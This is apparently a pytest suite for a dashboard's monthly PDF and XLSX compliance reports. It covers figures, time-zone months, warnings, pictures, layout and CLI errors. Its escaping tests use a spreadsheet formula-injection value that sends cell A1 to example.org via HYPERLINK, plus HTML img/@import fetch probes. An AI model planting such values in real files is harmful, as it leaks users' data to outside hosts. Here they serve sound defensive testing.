"""The monthly report: every figure on paper and in the workbook is the one that pandas computes."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import time, timedelta
from math import inf
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from typer.testing import CliRunner, Result
from weasyprint import CSS, HTML
from weasyprint.formatting_structure import boxes

from broker.dispatch.database import open_engine
from dashboards.influxql import Influx as Reader
from dashboards.report import ReportError, pdf
from dashboards.report.make import Sources, compose, write
from dashboards.report.month import Month
from dashboards.report.pdf import as_pdf
from dashboards.report.printed import share
from dashboards.report.values import Cell, Document, Kind, Section, Table
from dashboards.report.xlsx import as_xlsx
from dashboards.text import Language
from deploy.dashboards import app
from tests.dashboards.conftest import DATABASE
from tests.dashboards.reported import Share, Span, in_workbook, on_paper, pages, sheets, squeezed, tables
from tests.dashboards.reporting import Desk, invented
from tests.dashboards.world import MONTH, Oddities, World, unix
from tests.influx import TOKEN, Influx

BERLIN, KATHMANDU, LORD_HOWE = "Europe/Berlin", "Asia/Kathmandu", "Australia/Lord_Howe"
AFTER = unix(2026, 4, 2, 7, 30)
"""When reports of March are made."""
LONG = "南京东路 雨污分流改造工程（二标段）与沿线管线迁改及交通疏解配套工程施工总承包项目部" * 2
HARMFUL = '=HYPERLINK("http://example.org/?"&A1;"see")'

Site = tuple[str, str, tuple[str, ...]]
SITES: tuple[Site, ...] = (
    ("0", BERLIN, ("n-1", "n-9")),  # a node that dispatch knows, and InfluxDB does not
    ("s-1", KATHMANDU, ("n-1",)),  # whose midnights lie between two hours of UTC
    ("s-2", LORD_HOWE, ()),
    (Oddities.blind_site, BERLIN, ("n-1",)),
    (Oddities.idle_site, BERLIN, ("n-1",)),
    (Oddities.silent_site, BERLIN, ("n-1",)),
    (Oddities.replaced_node, BERLIN, ("n-1", "n-2")),
)


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    desk = Desk(tmp_path_factory.mktemp("desk"), MONTH[0])
    for site, zone, nodes in SITES:
        desk.site(site, f"Site {site}", zone, nodes)
    desk.site("empty", LONG, "Asia/Shanghai", language="zh-CN")
    desk.site("harm", HARMFUL, BERLIN)
    yield desk
    desk.engine.dispose()


@pytest.fixture
def sources(read: Reader, influx: Influx, desk: Desk) -> Sources:
    return Sources(read, influx.url, desk.engine, desk.folder)


def made(
    sources: Sources, site: str, *, now: int = AFTER, language: Language = "en", month: str = "2026-03"
) -> Document:
    return compose(sources, site, month, now=now, languages=[language])[language]


# -- figures -----------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module", params=SITES, ids=lambda site: site[0])
def reported(
    request: pytest.FixtureRequest, read: Reader, influx: Influx, desk: Desk, month: World
) -> tuple[bytes, bytes, dict[str, list[list[Any]]]]:
    """PDF, workbook, and what must be in both."""
    site, zone, nodes = request.param
    document = made(Sources(read, influx.url, desk.engine, desk.folder), site)
    truth = tables(month, site, Span.of(2026, 3, zone, AFTER), set(nodes))
    return as_pdf(document), as_xlsx(document), truth


def test_the_workbook_holds_every_figure(reported: tuple[bytes, bytes, dict[str, list[list[Any]]]]) -> None:
    _, xlsx, truth = reported
    found = sheets(xlsx)
    for name, rows in truth.items():
        expected = [[in_workbook(cell) for cell in row] for row in rows]
        assert len(found[name]) == len(expected), name
        for got, want in zip(found[name], expected, strict=True):
            assert got == [_near(cell) for cell in want], name


def _near(cell: Any) -> Any:
    if isinstance(cell, timedelta):
        return _Near(cell)
    return pytest.approx(cell, abs=1e-9) if isinstance(cell, float) else cell


class _Near:
    """Equal to durations within a millisecond: a spreadsheet holds parts of days."""

    def __init__(self, value: timedelta) -> None:
        self.value = value

    def __eq__(self, other: object) -> bool:
        if other == 0:  # openpyxl reads a duration of nothing as a time of day
            return self.value == timedelta()
        if isinstance(other, time):
            other = timedelta(hours=other.hour, minutes=other.minute, seconds=other.second + other.microsecond / 1e6)
        return isinstance(other, timedelta) and abs(other - self.value) < timedelta(milliseconds=1)

    __hash__ = None  # type: ignore[assignment]

    def __repr__(self) -> str:
        return repr(self.value)


PRINTED = {"Places": 20, "Gaps": 15}
"""Rows on paper, of tables that may be long."""


def test_the_paper_holds_every_figure(reported: tuple[bytes, bytes, dict[str, list[list[Any]]]]) -> None:
    paper, _, truth = reported
    text = "".join(pages(paper))
    nothing_judged = all(row[3].value == 0 and row[4].value == 0 and row[2] is None for row in truth["Days"])
    for name, rows in truth.items():
        if nothing_judged and name in {"Days", "Hours"}:
            continue
        for row in rows[: PRINTED.get(name, 100)]:
            line = "".join(on_paper(cell) for cell in row)
            assert line in text, f"{name}: {row}"
    for name, most in PRINTED.items():
        if (more := len(truth[name]) - most) > 0:
            assert squeezed(f"{more} more in the workbook.") in text


def test_figures_of_this_world_are_worth_testing(month: World) -> None:
    """Rules, cases, places, gaps and false alarms are there, summer time came, shares are not round."""
    truth = tables(month, "0", Span.of(2026, 3, BERLIN, AFTER), {"n-1"})
    assert min(len(rows) for name, rows in truth.items() if name != "Nodes") > 2
    assert any(row[-2] for row in truth["Cases"])
    assert sum(sum(row[1:]) for row in truth["Nodes"]) == 743
    assert all(isinstance(row[1], Share) and 0 < row[1].value < 1 for row in truth["Days"])


def test_false_alarm_marks_take_nothing_away(sources: Sources, month: World) -> None:
    """The compliance of a site with marks is that of its tallies alone, and the marks stand beside it."""
    document = made(sources, "0")
    summary = {row[0].value: row[1].value for row in document.sections[0].tables[0].rows}
    rows = Span.of(2026, 3, BERLIN, AFTER).of_site(month.hour, "0")
    judged = rows["ok_s"].sum() + rows["violation_s"].sum()
    assert summary["Compliance, all rules"] == pytest.approx(rows["ok_s"].sum() / judged)
    assert summary["Cases marked as false alarms"]


# -- months ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("zone", "month", "hours"),
    [
        (BERLIN, "2026-03", 743),
        (BERLIN, "2026-10", 745),
        ("Asia/Shanghai", "2026-03", 744),
        ("Asia/Shanghai", "2026-02", 672),
        (KATHMANDU, "2026-04", 720),
        (LORD_HOWE, "2026-04", 720.5),
        ("America/New_York", "2026-11", 721),
        ("Africa/Cairo", "2026-04", 719),  # the clocks go forward at a midnight
    ],
)
def test_a_month_is_the_sites_own(zone: str, month: str, hours: float) -> None:
    found = Month.parse(month, ZoneInfo(zone))
    assert (found.stop - found.start) / 3600 == hours
    assert found.before.stop == found.start
    assert found.local(found.start).date().day == 1
    assert found.local(found.stop - 1).month == found.month


def test_months_follow_each_other_over_the_new_year() -> None:
    january = Month.parse("2026-01", ZoneInfo(BERLIN))
    assert str(january.before) == "2025-12"
    assert january.before.following == january.first


@pytest.mark.parametrize("text", ["2026-13", "2026-00", "2026-3", "26-03", "March", "", "2026-03-01", "9999-01"])
def test_what_is_no_month_is_said(text: str) -> None:
    with pytest.raises(ReportError, match="is no month; write year and month, as 2026-05"):
        Month.parse(text, ZoneInfo(BERLIN))


def test_a_month_that_runs_is_told_up_to_the_last_full_hour(sources: Sources, month: World) -> None:
    now = unix(2026, 3, 20, 10, 40)
    document = made(sources, "0", now=now)
    assert any("not over" in warning and "2026-03-20 11:00" in warning for warning in document.warnings)
    truth = tables(month, "0", Span.of(2026, 3, BERLIN, now), {"n-1", "n-9"})
    assert len(truth["Days"]) == 20
    text = "".join(pages(as_pdf(document)))
    for row in (*truth["Summary"], *truth["Rules"], *truth["Days"]):
        assert "".join(on_paper(cell) for cell in row) in text


def test_a_month_that_has_not_begun_is_refused(sources: Sources) -> None:
    with pytest.raises(ReportError, match="2026-05 has not begun"):
        made(sources, "0", month="2026-05")


# -- what is not there -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("site", "said"),
    [
        ("empty", "本月没有任何判定"),
        ("empty", "没有上月数据"),
    ],
)
def test_an_empty_month_says_so_first(sources: Sources, site: str, said: str) -> None:
    text = pages(as_pdf(made(sources, site, language="zh-CN")))
    assert said in text[0]
    assert len(text) <= 3


@pytest.mark.parametrize("language", ["en", "zh-CN"])
def test_no_share_of_nothing_is_a_number(sources: Sources, language: Language) -> None:
    document = made(sources, "empty", language=language)
    compliance, unknown, *_ = document.sections[0].tables[0].rows
    assert [cell.value for cell in (*compliance[1:], *unknown[1:])] == [None] * 6


def test_nodes_that_were_not_heard_are_named_first(sources: Sources) -> None:
    (warning,) = [w for w in made(sources, "0").warnings if w.startswith("Nodes not heard")]
    assert "n-9: 743" in warning


def test_cases_of_which_influxdb_knows_nothing_are_told(sources: Sources) -> None:
    """Points that wait at dispatch would make the figures of cases too small in silence."""
    (warning,) = [w for w in made(sources, "0").warnings if "ledger" in w]
    assert "has 0 cases" in warning


def test_a_site_that_dispatch_does_not_know(sources: Sources) -> None:
    with pytest.raises(ReportError, match=r"no site 's-99'; it knows 0, empty"):
        made(sources, "s-99")


def test_without_influxdb_there_is_no_report(sources: Sources, tmp_path: Path) -> None:
    with Reader("http://127.0.0.1:1", DATABASE, TOKEN) as nobody:
        away = Sources(nobody, "http://127.0.0.1:1", sources.engine, sources.evidence)
        with pytest.raises(ReportError, match="cannot be reached") as caught:
            made(away, "0")
    assert TOKEN not in str(caught.value)


def test_without_the_evidence_there_is_no_report(sources: Sources, tmp_path: Path) -> None:
    lost = Sources(sources.influx, sources.influx_url, sources.engine, tmp_path / "unmounted")
    with pytest.raises(ReportError, match=r"evidence: .*unmounted is no store of dispatch; is its disk mounted"):
        made(lost, "0")
    assert not (tmp_path / "unmounted").exists()


def test_without_dispatchs_database_there_is_no_report(sources: Sources, tmp_path: Path) -> None:
    empty = open_engine(f"sqlite:///{tmp_path / 'new.db'}")
    with pytest.raises(ReportError, match="dispatch's database cannot be read: no such table"):
        made(Sources(sources.influx, sources.influx_url, empty, sources.evidence), "0")


def test_without_the_font_there_is_no_half_report(
    sources: Sources, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    document = made(sources, "0")
    monkeypatch.setattr(pdf, "FONT", "A Font That Nobody Has")
    with pytest.raises(ReportError, match=r"A Font That Nobody Has is not installed .apt-get install fonts-noto-cjk"):
        write({"en": document}, tmp_path / "out", "report", ["xlsx", "pdf"])
    assert not (tmp_path / "out").exists()


def test_a_folder_that_cannot_be_written(sources: Sources, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(ReportError, match="file: cannot be written"):
        write({"en": made(sources, "empty")}, tmp_path / "file", "report", ["xlsx"])


# -- the contact sheet -------------------------------------------------------------------------------------------------


@pytest.fixture
def pictured(tmp_path: Path, read: Reader, influx: Influx) -> Iterator[tuple[Desk, Sources]]:
    desk = Desk(tmp_path, MONTH[0])
    desk.site("yard", "Yard", BERLIN)
    yield desk, Sources(read, influx.url, desk.engine, desk.folder)
    desk.engine.dispose()


def test_the_gravest_come_first_and_no_rule_hides_another(pictured: tuple[Desk, Sources]) -> None:
    desk, sources = pictured
    for n in range(6):
        desk.case("yard", MONTH[0] + n * 100, rule="helmet", severity="critical", place=f"p-{n}")
    gas = desk.case("yard", MONTH[0], rule="gas", severity="critical", place="p")
    info = desk.case("yard", MONTH[1] - 1, rule="weather", severity="info", place="p")
    desk.case("yard", MONTH[0] - 1, rule="barrier", place="of-february")
    desk.case("yard", MONTH[1] + 1, rule="barrier", place="of-april")
    desk.case("yard", MONTH[0] + 5, rule="signs", place="without", picture=False)
    section = made(sources, "yard").sections[7]
    shots = [caption.shot for caption in section.captions]
    assert [shot.place for shot in shots] == ["p-5", "p", "p-4", "p-3", "p-2", "p-1", "p-0", "p"]
    assert {gas, info} <= {shot.case for shot in shots}
    assert section.sentences[0].startswith("8 of 8 pictures kept of 9 cases")


def test_pictures_are_on_the_pages_and_small(pictured: tuple[Desk, Sources]) -> None:
    desk, sources = pictured
    for n in range(30):
        desk.case("yard", MONTH[0] + n * 60, rule="helmet", place=f"p-{n}", size=[(1920, 1080), (720, 1280)][n % 2])
    paper = as_pdf(made(sources, "yard"))
    images = {image.data: image.image for page in PdfReader(io.BytesIO(paper)).pages for image in page.images}
    assert len(images) == 24
    assert all(image and max(image.size) == 640 for image in images.values())
    assert squeezed("24 of 30 pictures kept of 30 cases") in "".join(pages(paper))


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (lambda path: path.unlink(), "file is missing in the evidence store"),
        (lambda path: path.write_bytes(b"\xff\xd8\xffother"), "is not the one that was stored"),
    ],
)
def test_a_picture_that_is_gone_or_changed_is_said_and_not_shown(
    pictured: tuple[Desk, Sources], spoil: Any, said: str
) -> None:
    desk, sources = pictured
    desk.case("yard", MONTH[0], rule="helmet", place="a")
    (path,) = [p for p in (desk.folder / "files").rglob("*") if p.is_file()]
    spoil(path)
    (caption,) = made(sources, "yard").sections[7].captions
    assert caption.shot.picture is None
    assert said in caption.instead


def test_pictures_that_retention_took_are_counted(pictured: tuple[Desk, Sources]) -> None:
    desk, sources = pictured
    desk.false_alarm(desk.case("yard", MONTH[0], rule="helmet", place="a"), "a bucket")
    desk.expire(MONTH[0] + 40 * 86_400)
    sentences = made(sources, "yard").sections[7].sentences
    assert "no pictures kept of the 1 cases" in sentences[0]
    assert "1 cases were deleted after 30 days" in sentences[1]


def test_a_case_marked_as_false_alarm_is_shown_and_marked(pictured: tuple[Desk, Sources]) -> None:
    desk, sources = pictured
    desk.false_alarm(desk.case("yard", MONTH[0], rule="helmet", place="a"), "a bucket, no head")
    (caption,) = made(sources, "yard").sections[7].captions
    assert caption.lines[-1] == "Marked as false alarm"


# -- paper and workbook ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["en", "zh-CN"])
def test_every_page_is_a4_and_says_what_it_is_of(sources: Sources, language: Language) -> None:
    paper = PdfReader(io.BytesIO(as_pdf(made(sources, "0", language=language))))
    count = len(paper.pages)
    of = "Page {} of {}" if language == "en" else "第 {} 页，共 {} 页"
    for number, page in enumerate(paper.pages, 1):
        assert (float(page.mediabox.width), float(page.mediabox.height)) == pytest.approx((595.3, 841.9), abs=0.1)
        text = squeezed(page.extract_text())
        assert squeezed(of.format(number, count)) in text
        assert squeezed("– Site 0") in text
        assert squeezed("2026-04-02 09:30 (UTC+0200)") in text
        assert text.count("2026-03–") == 1


@pytest.mark.parametrize("language", ["en", "zh-CN"])
@pytest.mark.parametrize(("rules", "places", "long"), [(0, 0, False), (1, 1, False), (12, 30, False), (12, 30, True)])
def test_everything_is_inside_its_cell_and_its_page(language: Language, rules: int, places: int, long: bool) -> None:
    """As laid out: no text runs over an edge, however long the names and large the numbers are."""
    css = CSS(filename=Path(pdf.__file__).with_name("page.css"))
    laid_out = HTML(string=pdf.page(invented(rules, places, language, long=long))).render(stylesheets=[css])
    edge = 15 / 25.4 * 96
    for page in laid_out.pages:
        for text, left, right, cell in texts(page._page_box):
            assert left >= edge - 1, text
            assert right <= page.width - edge + 1, text
            assert right <= cell + 1, text
    assert len(laid_out.pages) <= 8


def texts(box: Any, cell: float = inf) -> Iterator[tuple[str, float, float, float]]:
    """Each text with its edges and the right edge of the table's cell that it is in, CSS px."""
    if isinstance(box, boxes.TableCellBox):
        cell = box.position_x + box.border_width()
    if isinstance(box, boxes.TextBox) and box.text.strip():
        yield box.text, box.position_x, box.position_x + box.width, cell
    if not isinstance(box, boxes.ReplacedBox):
        for child in getattr(box, "children", ()):
            yield from texts(child, cell)


@pytest.mark.parametrize("site", ["harm", "<b>&amp;</b>", "@SUM(1)", "+1", "-1", "\x07bell"])
def test_names_from_outside_are_texts(sources: Sources, desk: Desk, site: str) -> None:
    """Neither markup on paper nor a formula in the workbook."""
    name = HARMFUL if site == "harm" else site
    if site != "harm":
        desk.site(f"harm-{abs(hash(site)) % 10**6}", site, BERLIN)
        site = f"harm-{abs(hash(name)) % 10**6}"
    document = made(sources, site)
    kept = "".join(c for c in name if c.isprintable())
    book = load_workbook(io.BytesIO(as_xlsx(document)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert any(str(cell.value).startswith(kept) for cell in cells)
    assert squeezed(kept) in pages(as_pdf(document))[0]


def test_the_paper_asks_for_nothing_from_outside(sources: Sources, desk: Desk) -> None:
    desk.site("fetch", '<img src="http://127.0.0.1:1/x"><style>@import "http://127.0.0.1:1/y";</style>', BERLIN)
    assert squeezed('<img src="http://127.0.0.1:1/x">') in pages(as_pdf(made(sources, "fetch")))[0]


@pytest.mark.parametrize(
    ("value", "shown"),
    [(0.0, "0.00%"), (1e-7, '"< 0.01%"'), (0.5, "0.00%"), (0.9999, "0.00%"), (0.999999, '"> 99.99%"'), (1.0, "0.00%")],
)
def test_nearly_all_is_not_all_in_the_workbook_either(sources: Sources, value: float, shown: str) -> None:
    document = made(sources, "empty")
    table = Table("Only", ("Compliance",), ((Cell(Kind.SHARE, value),),))
    book = load_workbook(io.BytesIO(as_xlsx(replace(document, sections=(Section("Only", tables=(table,)),)))))
    cell = book["Only"]["A2"]
    assert (cell.value, cell.number_format) == (value, shown)


def test_formats_of_the_workbook(sources: Sources) -> None:
    book = load_workbook(io.BytesIO(as_xlsx(made(sources, "0"))))
    assert {row[1].number_format for row in book["Days"].iter_rows(min_row=2)} == {"0.00%"}
    assert book["Rules"]["D2"].number_format == "[h]:mm:ss"
    assert book["Days"]["A2"].is_date
    assert book["Gaps"]["C2"].is_date


def test_the_same_data_make_the_same_report(sources: Sources) -> None:
    assert as_pdf(made(sources, "0")) == as_pdf(made(sources, "0"))


@pytest.mark.parametrize(
    ("value", "said"),
    [
        (0.0, "0.0 %"),
        (0.0004, "< 0.1 %"),
        (0.0012, "0.1 %"),
        (0.9985, "99.9 %"),
        (0.9996, "> 99.9 %"),
        (1.0, "100.0 %"),
    ],
)
def test_nearly_all_is_not_all(value: float, said: str) -> None:
    assert squeezed(share(value)) == squeezed(said)


# -- the command -------------------------------------------------------------------------------------------------------


@pytest.fixture
def command(desk: Desk, influx: Influx, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Result]:
    """`banksman dashboards report …` with the settings of dispatch."""
    settings = desk.folder.with_name("dispatch.yaml")
    settings.write_text(f"mqtt: {{host: localhost}}\nweb: {{secret: {'x' * 40}}}\n")
    monkeypatch.setenv("BANKSMAN_INFLUX_URL", influx.url)
    monkeypatch.setenv("BANKSMAN_INFLUX_DATABASE", DATABASE)
    monkeypatch.setenv("BANKSMAN_INFLUX_TOKEN", TOKEN)

    def run(*arguments: str) -> Result:
        return CliRunner().invoke(
            app, ["report", *arguments, "--dispatch", str(settings), "--out", str(tmp_path / "out")]
        )

    return run


def test_the_command_writes_the_report_and_says_where(command: Callable[..., Result], tmp_path: Path) -> None:
    done = command("empty", "2026-03")
    assert done.exit_code == 0, done.output
    names = ["empty-2026-03.zh-CN.pdf", "empty-2026-03.zh-CN.xlsx"]
    assert [Path(line).name for line in done.stdout.split()] == names
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == names


def test_the_command_in_both_languages(command: Callable[..., Result], tmp_path: Path) -> None:
    assert command("empty", "2026-03", "--lang", "en", "--lang", "zh-CN", "--kind", "xlsx").exit_code == 0
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["empty-2026-03.en.xlsx", "empty-2026-03.zh-CN.xlsx"]


def test_the_token_may_come_from_a_file_with_an_end_of_line(
    command: Callable[..., Result], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BANKSMAN_INFLUX_TOKEN", f"{TOKEN}\r\n")
    done = command("empty", "2026-03", "--kind", "xlsx")
    assert (done.exit_code, TOKEN in done.output) == (0, False), done.output


@pytest.mark.parametrize(
    ("arguments", "environment", "said"),
    [
        (("empty", "2026-13"), {}, "is no month"),
        (("nowhere", "2026-03"), {}, "no site 'nowhere'"),
        (("empty", "2026-03", "--lang", "de"), {}, "--lang takes zh-CN or en"),
        (("empty", "2026-03", "--kind", "doc"), {}, "--kind takes pdf or xlsx"),
        (("empty", "2026-03"), {"BANKSMAN_INFLUX_TOKEN": "wrong"}, "the token may not read"),
        (("empty", "2026-03"), {"BANKSMAN_INFLUX_URL": "http://127.0.0.1:1"}, "cannot be reached"),
        (("empty", "2026-03"), {"BANKSMAN_INFLUX_DATABASE": "other"}, "other"),
    ],
)
def test_the_command_says_why_there_is_no_report(
    command: Callable[..., Result],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    *,
    arguments: tuple[str, ...],
    environment: dict[str, str],
    said: str,
) -> None:
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    done = command(*arguments)
    assert done.exit_code == 2
    assert said in done.stderr
    assert TOKEN not in done.output
    assert not (tmp_path / "out").exists()
